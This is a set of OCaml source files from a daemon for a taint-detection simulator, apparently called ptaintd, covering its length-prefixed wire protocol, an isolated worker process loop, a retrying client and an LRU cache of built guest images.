let tag_stats_full = 0x06

let tag_hello_ok = 0x81
let tag_accepted = 0x82
let tag_rejected = 0x83
let tag_job_event = 0x84
let tag_stats_ok = 0x85
let tag_pong = 0x86
let tag_error = 0x87
let tag_stats_full_ok = 0x88

let ev_started = 1
let ev_finished = 2
let ev_failed = 3

(* --- frame assembly -------------------------------------------------- *)

let frame tag payload =
  let n = String.length payload in
  if n > max_payload then invalid_arg "Proto: payload exceeds max_payload";
  let b = Buffer.create (header_bytes + n) in
  Buffer.add_char b 'P';
  Buffer.add_char b 'D';
  w_u8 b version;
  w_u8 b tag;
  w_u32 b n;
  Buffer.add_string b payload;
  Buffer.contents b

let w_job_spec b s =
  (match s.spec_payload with
   | Wire_asm src -> w_u8 b 0; w_string b src
   | Wire_c src -> w_u8 b 1; w_string b src);
  w_string b s.spec_tag;
  w_opt_string b s.spec_policy;
  w_list b w_string s.spec_argv;
  w_list b w_pair s.spec_env;
  w_string b s.spec_stdin;
  w_list b (fun b session -> w_list b w_string session) s.spec_sessions;
  w_opt_i64 b s.spec_max_instructions;
  w_list b w_injection s.spec_injections;
  w_opt_seconds b s.spec_timeout;
  w_spec_trailer b s

let r_job_spec c =
  let payload =
    match r_u8 c "payload kind" with
    | 0 -> Wire_asm (r_string c "asm source")
    | 1 -> Wire_c (r_string c "c source")
    | k -> raise (Garbled (Printf.sprintf "unknown payload kind %d" k))
  in
  let spec_tag = r_string c "job tag" in
  let spec_policy = r_opt c r_string "policy label" in
  let spec_argv = r_list c (fun c -> r_string c "argv entry") "argv" in
  let spec_env = r_list c r_pair "env" in
  let spec_stdin = r_string c "stdin" in
  let spec_sessions =
    r_list c (fun c -> r_list c (fun c -> r_string c "session line") "session") "sessions"
  in
  let spec_max_instructions = r_opt c r_i64 "max instructions" in
  let spec_injections = r_list c r_injection "injections" in
  let spec_timeout = r_opt_seconds c "timeout" in
  let spec_trace = r_trace c in
  let spec_idem = r_trailing c r_string "idempotency key" in
  let spec_deadline = r_trailing_seconds c "deadline" in
  { spec_tag; spec_payload = payload; spec_policy; spec_argv; spec_env;
    spec_stdin; spec_sessions; spec_max_instructions; spec_injections;
    spec_timeout; spec_trace; spec_idem; spec_deadline }

let encode_request req =
  let b = Buffer.create 64 in
  match req with
  | Hello { client } -> w_string b client; frame tag_hello (Buffer.contents b)
  | Submit spec -> w_job_spec b spec; frame tag_submit (Buffer.contents b)
  | Stats -> frame tag_stats ""
  | Stats_full -> frame tag_stats_full ""
  | Ping payload -> w_string b payload; frame tag_ping (Buffer.contents b)
  | Quit -> frame tag_quit ""

let w_event b = function
  | Started { id } -> w_u8 b ev_started; w_i64 b id
  | Finished f ->
    w_u8 b ev_finished;
    w_i64 b f.id;
    w_string b f.tag;
    w_string b f.outcome;
    w_i64 b f.exit_code;
    w_i64 b f.instructions;
    w_i64 b f.syscalls;
    w_string b f.policy_label;
    w_bool b f.cache_hit;
    w_list b w_counter f.counters;
    w_string b f.stdout;
    w_trace b f.trace
  | Job_failed f ->
    w_u8 b ev_failed;
    w_i64 b f.id;
    w_string b f.tag;
    w_string b f.kind;
    w_string b f.message;
    w_string b f.policy_label;
    w_list b w_counter f.counters;
    w_trace b f.trace

let r_event c =
  match r_u8 c "event tag" with
  | 1 -> Started { id = r_i64 c "job id" }
  | 2 ->
    let id = r_i64 c "job id" in
    let tag = r_string c "job tag" in
    let outcome = r_string c "outcome" in
    let exit_code = r_i64 c "exit code" in
    let instructions = r_i64 c "instructions" in
    let syscalls = r_i64 c "syscalls" in
    let policy_label = r_string c "policy label" in
    let cache_hit = r_bool c "cache hit" in
    let counters = r_list c r_counter "counters" in
    let stdout = r_string c "stdout" in
    let trace = r_trace c in
    Finished { id; tag; outcome; exit_code; instructions; syscalls;
               policy_label; cache_hit; counters; stdout; trace }
  | 3 ->
    let id = r_i64 c "job id" in
    let tag = r_string c "job tag" in
    let kind = r_string c "failure kind" in
    let message = r_string c "failure message" in
    let policy_label = r_string c "policy label" in
    let counters = r_list c r_counter "counters" in
    let trace = r_trace c in
    Job_failed { id; tag; kind; message; policy_label; counters; trace }
  | t -> raise (Garbled (Printf.sprintf "unknown event tag %d" t))

let encode_response resp =
  let b = Buffer.create 64 in
  match resp with
  | Hello_ok { server_version; banner } ->
    w_i64 b server_version; w_string b banner;
    frame tag_hello_ok (Buffer.contents b)
  | Accepted { id; tag } ->
    w_i64 b id; w_string b tag;
    frame tag_accepted (Buffer.contents b)
  | Rejected { tag; reason } ->
    w_string b tag; w_string b reason;
    frame tag_rejected (Buffer.contents b)
  | Job_event e -> w_event b e; frame tag_job_event (Buffer.contents b)
  | Stats_ok counters ->
    w_list b w_counter counters;
    frame tag_stats_ok (Buffer.contents b)
  | Stats_full_ok text ->
    w_string b text;
    frame tag_stats_full_ok (Buffer.contents b)
  | Pong payload -> w_string b payload; frame tag_pong (Buffer.contents b)
  | Error_frame msg -> w_string b msg; frame tag_error (Buffer.contents b)

(* --- frame disassembly ----------------------------------------------- *)

(* [Ok None]: the buffer holds only a prefix of a frame — read more.
   [Ok (Some (tag, payload, consumed))]: one whole frame.  [Error _]:
   the stream is unsalvageable (framing is length-prefixed, so after
   any header-level error resynchronisation is impossible). *)
let split_frame ?(max_payload = max_payload) buf =
  let len = String.length buf in
  if len = 0 then Ok None
  else if buf.[0] <> 'P' then Error Bad_magic
  else if len >= 2 && buf.[1] <> 'D' then Error Bad_magic
  else if len < header_bytes then Ok None
  else
    let ver = Char.code buf.[2] in
    if ver < min_version || ver > version then Error (Bad_version ver)
    else
      let tag = Char.code buf.[3] in
      let n =
        (Char.code buf.[4] lsl 24) lor (Char.code buf.[5] lsl 16)
        lor (Char.code buf.[6] lsl 8) lor Char.code buf.[7]
      in
      if n > max_payload then Error (Oversized n)
      else if len < header_bytes + n then Ok None
      else Ok (Some (tag, String.sub buf header_bytes n, header_bytes + n))

(* Parse a payload with [f], insisting every byte is consumed: a frame
   with trailing garbage is a framing bug or an attack, not a value. *)
let parse_payload f payload =
  let c = { buf = payload; pos = 0; stop = String.length payload } in
  match f c with
  | v ->
    if c.pos <> c.stop then
      Error (Malformed (Printf.sprintf "%d trailing bytes after payload" (c.stop - c.pos)))
    else Ok v
  | exception Garbled m -> Error (Malformed m)

let request_of_frame (tag, payload) =
  if tag = tag_hello then
    parse_payload (fun c -> Hello { client = r_string c "client name" }) payload
  else if tag = tag_submit then
    parse_payload (fun c -> Submit (r_job_spec c)) payload
  else if tag = tag_stats then parse_payload (fun _ -> Stats) payload
  else if tag = tag_stats_full then parse_payload (fun _ -> Stats_full) payload
  else if tag = tag_ping then
    parse_payload (fun c -> Ping (r_string c "ping payload")) payload
  else if tag = tag_quit then parse_payload (fun _ -> Quit) payload
  else Error (Bad_tag tag)

let response_of_frame (tag, payload) =
  if tag = tag_hello_ok then
    parse_payload
      (fun c ->
        let server_version = r_i64 c "server version" in
        Hello_ok { server_version; banner = r_string c "banner" })
      payload
  else if tag = tag_accepted then
    parse_payload
      (fun c ->
        let id = r_i64 c "job id" in
        Accepted { id; tag = r_string c "job tag" })
      payload
  else if tag = tag_rejected then
    parse_payload
      (fun c ->
        let tag = r_string c "job tag" in
        Rejected { tag; reason = r_string c "reason" })
      payload
  else if tag = tag_job_event then parse_payload (fun c -> Job_event (r_event c)) payload
  else if tag = tag_stats_ok then
    parse_payload (fun c -> Stats_ok (r_list c r_counter "stats")) payload
  else if tag = tag_stats_full_ok then
    parse_payload (fun c -> Stats_full_ok (r_string c "stats text")) payload
  else if tag = tag_pong then
    parse_payload (fun c -> Pong (r_string c "pong payload")) payload
  else if tag = tag_error then
    parse_payload (fun c -> Error_frame (r_string c "error message")) payload
  else Error (Bad_tag tag)

let decode_with of_frame buf =
  match split_frame buf with
  | Error e -> Error e
  | Ok None -> Ok None
  | Ok (Some (tag, payload, consumed)) -> (
    match of_frame (tag, payload) with
    | Error e -> Error e
    | Ok v -> Ok (Some (v, consumed)))

let decode_request buf = decode_with request_of_frame buf
let decode_response buf = decode_with response_of_frame buf

(* --- job spec <-> unified Job.t -------------------------------------- *)

let job_of_spec s =
  match
    match s.spec_policy with
    | None -> Ok None
    | Some label -> (
      match Ptaint_sim.Sim.policy_of_label label with
      | Ok p -> Ok (Some p)
      | Error m -> Error m)
  with
  | Error m -> Error m
  | Ok policy ->
    let open Ptaint_sim.Sim.Config in
    let config =
      default
      |> (match policy with None -> Fun.id | Some p -> with_policy p)
      |> with_argv s.spec_argv
      |> with_env s.spec_env
      |> with_stdin s.spec_stdin
      |> with_sessions s.spec_sessions
      |> (match s.spec_max_instructions with
          | None -> Fun.id
          | Some n -> with_max_instructions n)
    in
    let payload =
      match s.spec_payload with
      | Wire_asm src -> Ptaint_campaign.Job.Asm_source src
      | Wire_c src -> Ptaint_campaign.Job.C_source src
    in
    (* No [policy_label] override: let the campaign engine derive the
       canonical label from the policy itself, exactly as the local
       batch runner does — the labels bucketing metrics must agree
       byte-for-byte between the two paths. *)
    Ok
      (Ptaint_campaign.Job.make ~tag:s.spec_tag ~config
         ~injections:s.spec_injections ?timeout:s.spec_timeout
         ?trace:s.spec_trace payload)

let spec_of_job ?policy (j : Ptaint_campaign.Job.t) =
  let payload =
    match j.Ptaint_campaign.Job.payload with
    | Ptaint_campaign.Job.Asm_source src -> Ok (Wire_asm src)
    | Ptaint_campaign.Job.C_source src -> Ok (Wire_c src)
    | Ptaint_campaign.Job.Image _ ->
      Error "pre-assembled Image payloads cannot travel on the wire"
  in
  match payload with
  | Error _ as e -> e
  | Ok payload ->
    let c = j.Ptaint_campaign.Job.config in
    Ok
      { spec_tag = j.Ptaint_campaign.Job.tag;
        spec_payload = payload;
        spec_policy =
          (match j.Ptaint_campaign.Job.policy_label, policy with
           | Some l, _ -> Some l
           | None, p -> p);
        spec_argv = c.Ptaint_sim.Sim.argv;
        spec_env = c.Ptaint_sim.Sim.env;
        spec_stdin = c.Ptaint_sim.Sim.stdin;
        spec_sessions = c.Ptaint_sim.Sim.sessions;
        spec_max_instructions = Some c.Ptaint_sim.Sim.max_instructions;
        spec_injections = j.Ptaint_campaign.Job.injections;
        spec_timeout = j.Ptaint_campaign.Job.timeout;
        spec_trace = j.Ptaint_campaign.Job.trace;
        spec_idem = None;
        spec_deadline = None }
