(* ptaintd worker process: the child half of the supervision tree.

   In --isolate mode the daemon forks N of these; each owns its own
   image cache and runs one job at a time, so a wedged or crashing
   analysis costs one worker process, never the daemon.  IPC reuses
   the Proto codec over a pipe pair: the supervisor writes request
   frames down (Submit / Ping / Quit), the worker writes response
   frames up (Hello_ok on boot, Job_event per job, Pong heartbeats
   while idle).  The worker is single-threaded by design: while a job
   runs it cannot heartbeat, so the supervisor covers busy workers
   with the dispatch deadline instead of the heartbeat.

   Job ids are a supervisor concern — dispatch depth is one, so the
   supervisor always knows which job a worker's events belong to and
   rewrites the id on the way through.  Events here carry id 0.

   This module also owns the result→event serialization shared with
   the in-process backend ({!event_of_job_result}), so both execution
   paths emit byte-identical frames for identical results. *)

module Campaign = Ptaint_campaign.Campaign
module Job = Ptaint_campaign.Job

(* --- result -> wire event (shared with Server) ----------------------- *)

let max_event_stdout = 1 lsl 20

let truncate_stdout s =
  if String.length s <= max_event_stdout then s
  else String.sub s 0 max_event_stdout ^ "\n[stdout truncated by ptaintd]\n"

(* Closed, low-cardinality outcome classes: the [outcome] label of
   [ptaintd_jobs_total].  Failures use {!Campaign.kind_name}. *)
let outcome_class (o : Ptaint_sim.Sim.outcome) =
  match o with
  | Ptaint_sim.Sim.Exited _ -> "exited"
  | Ptaint_sim.Sim.Alert _ -> "alert"
  | Ptaint_sim.Sim.Fault _ -> "fault"
  | Ptaint_sim.Sim.Trap _ -> "trap"
  | Ptaint_sim.Sim.Out_of_fuel -> "out-of-fuel"

let exit_code_of (o : Ptaint_sim.Sim.outcome) =
  match o with
  | Ptaint_sim.Sim.Exited c -> c land 0xff
  | Ptaint_sim.Sim.Alert _ -> 3
  | Ptaint_sim.Sim.Fault _ | Ptaint_sim.Sim.Trap _ | Ptaint_sim.Sim.Out_of_fuel -> 4

let event_of_result ~id ~tag ~cache_hit (r : Campaign.job_result) =
  let counters = Campaign.job_counters r in
  match r.Campaign.status with
  | Campaign.Finished res ->
    Proto.Finished
      { id; tag;
        outcome = Format.asprintf "%a" Ptaint_sim.Sim.pp_outcome res.Ptaint_sim.Sim.outcome;
        exit_code = exit_code_of res.Ptaint_sim.Sim.outcome;
        instructions = res.Ptaint_sim.Sim.instructions;
        syscalls = res.Ptaint_sim.Sim.syscalls;
        policy_label = r.Campaign.policy_label;
        cache_hit;
        counters;
        stdout = truncate_stdout res.Ptaint_sim.Sim.stdout;
        trace = r.Campaign.trace }
  | Campaign.Failed f ->
    Proto.Job_failed
      { id; tag;
        kind = Campaign.kind_name f.Campaign.kind;
        message = f.Campaign.exn;
        policy_label = r.Campaign.policy_label;
        counters;
        trace = r.Campaign.trace }

(* Serialization itself must not be able to kill a worker: a result
   that will not render becomes a typed crashed failure with the
   canonical counter shape. *)
let event_of_job_result ~id ~(job : Job.t) ~cache_hit r =
  match event_of_result ~id ~tag:job.Job.tag ~cache_hit r with
  | ev -> ev
  | exception _ ->
    Proto.Job_failed
      { id; tag = job.Job.tag; kind = "crashed";
        message = "ptaintd: failed to serialize job result";
        policy_label = Campaign.label_of_policy job.Job.config.Ptaint_sim.Sim.policy;
        counters = [ ("jobs", 1); ("crashed", 1) ];
        trace = job.Job.trace }

(* Classify a wire event for the [ptaintd_jobs_total] outcome label
   without the worker-side Sim result at hand: failures carry their
   kind; finished jobs are classified from the stable
   {!Ptaint_sim.Sim.pp_outcome} prefix. *)
let outcome_of_event = function
  | Proto.Started _ -> "unknown"
  | Proto.Job_failed f -> f.kind
  | Proto.Finished f ->
    let has_prefix p =
      String.length f.outcome >= String.length p
      && String.sub f.outcome 0 (String.length p) = p
    in
    if has_prefix "exited" then "exited"
    else if has_prefix "SECURITY ALERT" then "alert"
    else if has_prefix "fault" then "fault"
    else if has_prefix "break trap" then "trap"
    else if has_prefix "instruction budget" then "out-of-fuel"
    else "unknown"

(* --- the worker process loop ------------------------------------------ *)

type config = {
  cache_capacity : int;  (** per-worker image cache entries *)
  job_timeout : float option;  (** default watchdog; a job's own wins *)
  beat_interval : float;  (** idle heartbeat period, seconds *)
}

let default_config =
  { cache_capacity = 16; job_timeout = None; beat_interval = 0.25 }

let write_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write_substring fd s off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
  in
  go 0

(* Run one spec with the full containment machinery; mirrors the
   in-process backend so the two paths produce identical events. *)
let run_spec ~cache ~job_timeout spec =
  match Proto.job_of_spec spec with
  | Error m ->
    Proto.Job_failed
      { id = 0; tag = spec.Proto.spec_tag; kind = "loader error"; message = m;
        policy_label =
          Campaign.label_of_policy Ptaint_sim.Sim.Config.default.Ptaint_sim.Sim.policy;
        counters = [ ("jobs", 1); ("loader errors", 1) ];
        trace = spec.Proto.spec_trace }
  | Ok job ->
    let r, cache_hit =
      match
        (* the cache consult is inside the classification net: a
           malformed source fails the job, never the worker *)
        match Cache.obtain cache job with
        | entry, hit -> `Cached (entry, hit)
        | exception _ -> `Build_failed
      with
      | `Cached (entry, hit) ->
        let run_sim ~deadline config _program =
          Ptaint_sim.Sim.run_template ?deadline ~config entry.Cache.template
        in
        (Campaign.run_job ?job_timeout ~run_sim ~program:entry.Cache.program job, hit)
      | `Build_failed -> (Campaign.run_job ?job_timeout job, false)
    in
    event_of_job_result ~id:0 ~job ~cache_hit r

let main ~config ~rd ~wr =
  Sys.set_signal Sys.sigpipe Sys.Signal_ignore;
  let cache = Cache.create ~capacity:config.cache_capacity () in
  let inbuf = Buffer.create 4096 in
  let chunk = Bytes.create 65536 in
  let send resp = write_all wr (Proto.encode_response resp) in
  send (Proto.Hello_ok { server_version = Proto.version; banner = "ptaintd-worker" });
  let rec next_request () =
    match Proto.decode_request (Buffer.contents inbuf) with
    | Ok (Some (req, consumed)) ->
      let rest = Buffer.contents inbuf in
      Buffer.clear inbuf;
      Buffer.add_substring inbuf rest consumed (String.length rest - consumed);
      Some req
    | Error _ -> None  (* garbled pipe: die; the supervisor respawns *)
    | Ok None -> (
      match Unix.select [ rd ] [] [] config.beat_interval with
      | [], _, _ ->
        send (Proto.Pong "hb");
        next_request ()
      | _ -> (
        match Unix.read rd chunk 0 (Bytes.length chunk) with
        | 0 -> None  (* supervisor gone *)
        | n ->
          Buffer.add_subbytes inbuf chunk 0 n;
          next_request ()
        | exception Unix.Unix_error (Unix.EINTR, _, _) -> next_request ())
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> next_request ())
  in
  let rec loop () =
    match next_request () with
    | None | Some Proto.Quit -> ()
    | Some (Proto.Ping p) ->
      send (Proto.Pong p);
      loop ()
    | Some (Proto.Submit spec) ->
      send (Proto.Job_event (Proto.Started { id = 0 }));
      let ev = run_spec ~cache ~job_timeout:config.job_timeout spec in
      send (Proto.Job_event ev);
      loop ()
    | Some (Proto.Hello _ | Proto.Stats | Proto.Stats_full) -> loop ()
  in
  loop ()
