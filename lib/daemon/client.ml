(* Blocking ptaintd client.

   One connection, one thread: requests are written whole, responses
   are read frame-by-frame.  Two subtleties:

   - Interleaving: the server streams [Job_event] frames for earlier
     submissions while we wait for the direct reply to a later
     request, so the client stashes events encountered mid-RPC and
     hands them out from {!next_event} in arrival order.

   - Retries: with [retries > 0], {!connect} rides out a daemon that
     is still binding its socket, and {!submit} survives a connection
     dropped between submissions — jittered capped backoff, fresh
     handshake, resend.  Resubmission is only exactly-once when the
     spec carries an idempotency key ([spec_idem]); the server then
     attaches the retry to the live admission or replays the recorded
     result instead of running the job again. *)

module Rng = Ptaint_fi.Fi.Rng

exception Protocol_error of string

(* Matched on retry: an EOF mid-frame is a connection loss, not a
   framing violation, so it is the one Protocol_error worth a
   reconnect.  Kept as a single constant so the raise site and the
   retry match cannot drift apart. *)
let eof_message = "server closed the connection"

type t = {
  mutable fd : Unix.file_descr;
  inbuf : Buffer.t;
  events : Proto.event Queue.t;
  mutable server_banner : string;
  path : string;
  client_name : string;
  retries : int;  (* reconnect attempts beyond the first try *)
  backoff : float;  (* base delay, seconds; doubled per attempt *)
  rng : Rng.t;
}

let fail fmt = Printf.ksprintf (fun m -> raise (Protocol_error m)) fmt

let write_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then
      match Unix.write_substring fd s off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
  in
  go 0

let send t req = write_all t.fd (Proto.encode_request req)

let read_frame t =
  let chunk = Bytes.create 65536 in
  let rec go () =
    match Proto.decode_response (Buffer.contents t.inbuf) with
    | Error e -> fail "bad frame from server: %s" (Proto.error_message e)
    | Ok (Some (resp, consumed)) ->
      let rest = Buffer.contents t.inbuf in
      Buffer.clear t.inbuf;
      Buffer.add_substring t.inbuf rest consumed (String.length rest - consumed);
      resp
    | Ok None -> (
      match Unix.read t.fd chunk 0 (Bytes.length chunk) with
      | 0 -> raise (Protocol_error eof_message)
      | n ->
        Buffer.add_subbytes t.inbuf chunk 0 n;
        go ()
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go ())
  in
  go ()

(* Read until a non-event frame arrives, stashing events on the way.
   [Error_frame] is terminal by protocol contract. *)
let rec read_reply t =
  match read_frame t with
  | Proto.Job_event e ->
    Queue.push e t.events;
    read_reply t
  | Proto.Error_frame m -> fail "server error: %s" m
  | resp -> resp

(* Capped exponential backoff with uniform jitter in [cap/2, cap]:
   retrying clients of one dead daemon must not reconnect in
   lockstep. *)
let backoff_sleep ~backoff ~rng attempt =
  let cap = min 1.0 (backoff *. (2. ** float_of_int (min 10 attempt))) in
  let jitter = float_of_int (Rng.next rng land 0xffff) /. 65535. in
  let delay = (cap /. 2.) +. (cap /. 2. *. jitter) in
  try ignore (Unix.select [] [] [] delay) with Unix.Unix_error _ -> ()

let transient_unix_error = function
  | Unix.ECONNREFUSED | Unix.ECONNRESET | Unix.ENOENT | Unix.EPIPE -> true
  | _ -> false

let dial path =
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.connect fd (Unix.ADDR_UNIX path)
   with e ->
     (try Unix.close fd with Unix.Unix_error _ -> ());
     raise e);
  fd

let handshake t =
  Buffer.clear t.inbuf;
  send t (Proto.Hello { client = t.client_name });
  match read_reply t with
  | Proto.Hello_ok { server_version; banner } ->
    if server_version <> Proto.version then
      fail "server speaks protocol v%d, client v%d" server_version Proto.version;
    t.server_banner <- banner
  | _ -> fail "expected Hello_ok"

(* Drop the dead fd and dial + handshake again.  Stashed events
   survive — they were delivered before the connection died and the
   caller has not consumed them yet. *)
let reconnect t =
  (try Unix.close t.fd with Unix.Unix_error _ -> ());
  t.fd <- dial t.path;
  handshake t

let connect ?(client = "ptaint") ?(retries = 0) ?(backoff = 0.05) path =
  let rng =
    Rng.create
      (int_of_float (Unix.gettimeofday () *. 1e6) lxor (Unix.getpid () * 0x9e3779b9))
  in
  let rec dial_retry attempt =
    match dial path with
    | fd -> fd
    | exception Unix.Unix_error (err, _, _)
      when transient_unix_error err && attempt < retries ->
      backoff_sleep ~backoff ~rng attempt;
      dial_retry (attempt + 1)
  in
  let fd = dial_retry 0 in
  let t =
    { fd; inbuf = Buffer.create 256; events = Queue.create ();
      server_banner = ""; path; client_name = client; retries; backoff; rng }
  in
  handshake t;
  t

let banner t = t.server_banner

let submit t spec =
  let attempt () =
    send t (Proto.Submit spec);
    match read_reply t with
    | Proto.Accepted { id; _ } -> Ok id
    | Proto.Rejected { reason; _ } -> Error reason
    | _ -> fail "expected Accepted/Rejected"
  in
  let rec go n =
    match attempt () with
    | r -> r
    | exception Unix.Unix_error (err, _, _)
      when transient_unix_error err && n < t.retries ->
      backoff_sleep ~backoff:t.backoff ~rng:t.rng n;
      reconnect t;
      go (n + 1)
    | exception Protocol_error m when m = eof_message && n < t.retries ->
      backoff_sleep ~backoff:t.backoff ~rng:t.rng n;
      reconnect t;
      go (n + 1)
  in
  go 0

let next_event t =
  if not (Queue.is_empty t.events) then Queue.pop t.events
  else
    match read_frame t with
    | Proto.Job_event e -> e
    | Proto.Error_frame m -> fail "server error: %s" m
    | _ -> fail "expected Job_event"

let stats t =
  send t Proto.Stats;
  match read_reply t with
  | Proto.Stats_ok counters -> counters
  | _ -> fail "expected Stats_ok"

let stats_full t =
  send t Proto.Stats_full;
  match read_reply t with
  | Proto.Stats_full_ok text -> text
  | _ -> fail "expected Stats_full_ok"

let ping t payload =
  send t (Proto.Ping payload);
  match read_reply t with
  | Proto.Pong echoed -> echoed
  | _ -> fail "expected Pong"

let close t =
  (try send t Proto.Quit with Unix.Unix_error _ | Protocol_error _ -> ());
  try Unix.close t.fd with Unix.Unix_error _ -> ()

(* --- convenience: submit a batch, await all terminal events ---------- *)

type outcome = Done of Proto.event | Refused of string

let run_batch ?on_event t specs =
  let observe e = match on_event with Some f -> f e | None -> () in
  let accepted = Hashtbl.create 16 in
  let order =
    List.map
      (fun spec ->
        match submit t spec with
        | Ok id ->
          Hashtbl.replace accepted id None;
          `Id id
        | Error reason -> `Refused (spec.Proto.spec_tag, reason))
      specs
  in
  let outstanding = ref (Hashtbl.length accepted) in
  while !outstanding > 0 do
    match next_event t with
    | Proto.Started _ as e -> observe e
    | (Proto.Finished { id; _ } | Proto.Job_failed { id; _ }) as e ->
      observe e;
      (match Hashtbl.find_opt accepted id with
       | Some None ->
         Hashtbl.replace accepted id (Some e);
         decr outstanding
       | _ -> fail "terminal event for unknown job %d" id)
  done;
  List.map
    (fun slot ->
      match slot with
      | `Refused (_, reason) -> Refused reason
      | `Id id -> (
        match Hashtbl.find accepted id with
        | Some e -> Done e
        | None -> assert false))
    order
