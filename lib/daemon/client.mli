(** Blocking ptaintd client — the [--connect] side of [ptaint_run].

    One Unix-domain connection, used from one thread.  The server
    streams {!Proto.event} frames for in-flight jobs interleaved with
    direct replies; the client stashes events met while waiting for a
    reply and yields them from {!next_event} in arrival order, so
    callers may freely mix submissions, stats queries and event
    pumping. *)

exception Protocol_error of string
(** Framing violation, unexpected reply, server [Error_frame], or the
    server hanging up mid-frame. *)

type t

val connect : ?client:string -> ?retries:int -> ?backoff:float -> string -> t
(** Connect to the socket path and complete the [Hello] handshake.
    With [retries] (default 0: fail fast), a refused or absent socket
    is retried up to that many extra times with capped jittered
    exponential backoff from [backoff] seconds (default 0.05, capped
    at 1 s) — enough to ride out a daemon still binding its socket.
    The retry budget also arms {!submit} reconnection.  Raises
    [Unix.Unix_error] once the budget is exhausted, and
    {!Protocol_error} on a version mismatch. *)

val banner : t -> string

val submit : t -> Proto.job_spec -> (int, string) result
(** [Ok id] on admission; [Error reason] for an admission-control or
    validation rejection (the connection stays usable).  When the
    client was connected with [retries > 0] and the connection dies
    mid-submit ([EPIPE], [ECONNRESET], EOF), the client backs off,
    reconnects and resends.  Pair retries with an idempotency key
    ([Proto.job_spec.spec_idem]) to make resubmission exactly-once:
    the server attaches the retry to the live admission or replays
    the recorded result, never running the job twice.  Stashed events
    survive a reconnect; {!next_event} itself does not retry. *)

val next_event : t -> Proto.event
(** The next streamed job event, blocking as needed. *)

val stats : t -> (string * int) list

val stats_full : t -> string
(** The daemon's full telemetry snapshot in Prometheus text
    exposition format ([Stats_full] / [Stats_full_ok]). *)

val ping : t -> string -> string

val close : t -> unit
(** Send [Quit] best-effort and close the fd. *)

type outcome =
  | Done of Proto.event  (** terminal: [Finished] or [Job_failed] *)
  | Refused of string  (** rejected at admission; never ran *)

val run_batch :
  ?on_event:(Proto.event -> unit) -> t -> Proto.job_spec list -> outcome list
(** Submit every spec, pump events until each accepted job reaches a
    terminal event, and return outcomes in submission order — the
    building block for daemon-vs-batch output parity.  [on_event] sees
    every streamed event ([Started] and terminal) as it arrives, for
    client-side tracing and progress display. *)
