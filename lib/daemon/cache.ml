(* Content-addressed cache of built guest images.

   ptaintd's repeat-submission fast path: the first time a program
   arrives, the daemon pays assembly/compilation, block-table
   pre-decoding and boot-image construction once, and keeps the
   result as a [Sim.template] (program + copy-on-write memory
   snapshot).  Every later submission with the same
   {!Ptaint_campaign.Job.image_key} boots by restoring the snapshot —
   O(restore) instead of O(assemble + load) — under whatever policy,
   stdin or fuel the new job asks for (the key covers exactly the
   inputs that shape the boot image, so a hit is always safe to
   reuse).

   The cache is shared by all worker domains: lookups and insertions
   take a mutex, but building — the expensive part — happens outside
   it, so two workers missing on different keys compile in parallel.
   Two workers racing on the *same* key may both build; the second
   insert is dropped.

   Eviction is LRU by a monotonic use clock (touch is O(1), no
   recency list to rebuild) and happens in the same critical section
   that publishes the incoming entry, *before* the insert: the table
   never holds more than [capacity] boot templates, and the victim's
   program and snapshot become unreachable the moment it is chosen —
   not at some later insert. *)

type entry = {
  program : Ptaint_asm.Program.t;
  template : Ptaint_sim.Sim.template;
}

type slot = { e : entry; mutable last_use : int }

type t = {
  mu : Mutex.t;
  table : (string, slot) Hashtbl.t;
  capacity : int;
  mutable clock : int;  (* bumps on every hit or insert *)
  mutable hits : int;
  mutable misses : int;
  mutable evictions : int;
}

let create ?(capacity = 64) () =
  if capacity < 1 then invalid_arg "Cache.create: capacity must be >= 1";
  { mu = Mutex.create ();
    table = Hashtbl.create (2 * capacity);
    capacity;
    clock = 0;
    hits = 0;
    misses = 0;
    evictions = 0 }

let locked t f =
  Mutex.lock t.mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mu) f

let tick t =
  t.clock <- t.clock + 1;
  t.clock

let find t key =
  locked t (fun () ->
      match Hashtbl.find_opt t.table key with
      | Some s ->
        t.hits <- t.hits + 1;
        s.last_use <- tick t;
        Some s.e
      | None ->
        t.misses <- t.misses + 1;
        None)

let evict_lru t =
  let victim =
    Hashtbl.fold
      (fun key s acc ->
        match acc with
        | Some (_, best) when best <= s.last_use -> acc
        | _ -> Some (key, s.last_use))
      t.table None
  in
  match victim with
  | None -> ()
  | Some (key, _) ->
    Hashtbl.remove t.table key;
    t.evictions <- t.evictions + 1

let insert t key entry =
  locked t (fun () ->
      match Hashtbl.find_opt t.table key with
      | Some s ->
        (* racing build on the same key: the first insert won; treat
           the loser's arrival as a use of the survivor *)
        s.last_use <- tick t
      | None ->
        if Hashtbl.length t.table >= t.capacity then evict_lru t;
        Hashtbl.replace t.table key { e = entry; last_use = tick t })

(* Build-or-reuse for a job.  Returns the entry plus whether it was a
   hit.  Raises the toolchain's typed errors on malformed sources —
   callers run inside the campaign engine's classification net. *)
let obtain t (spec : Ptaint_campaign.Job.t) =
  let key = Ptaint_campaign.Job.image_key spec in
  match find t key with
  | Some e -> (e, true)
  | None ->
    let program = Ptaint_campaign.Job.program spec in
    let template =
      Ptaint_sim.Sim.prepare ~config:spec.Ptaint_campaign.Job.config program
    in
    let e = { program; template } in
    insert t key e;
    (e, false)

let length t = locked t (fun () -> Hashtbl.length t.table)

let counters t =
  locked t (fun () ->
      [ ("daemon/cache-hit", t.hits);
        ("daemon/cache-miss", t.misses);
        ("daemon/cache-evictions", t.evictions);
        ("daemon/cache-entries", Hashtbl.length t.table);
        ("daemon/cache-capacity", t.capacity) ])
