(** ptaintd wire protocol — pure codec for the detection service.

    Frames are length-prefixed and versioned:

    {v
    offset 0  'P' 'D'      magic
    offset 2  version      (= 3; v1/v2 frames still decode)
    offset 3  frame tag
    offset 4  u32 BE       payload length
    offset 8  payload
    v}

    All integers are big-endian; strings are u32-length-prefixed;
    lists are u16-count-prefixed.  The codec never touches a socket:
    {!encode_request}/{!encode_response} produce complete frame
    strings, {!decode_request}/{!decode_response} consume a prefix of
    an accumulation buffer — [Ok None] means "incomplete, read more",
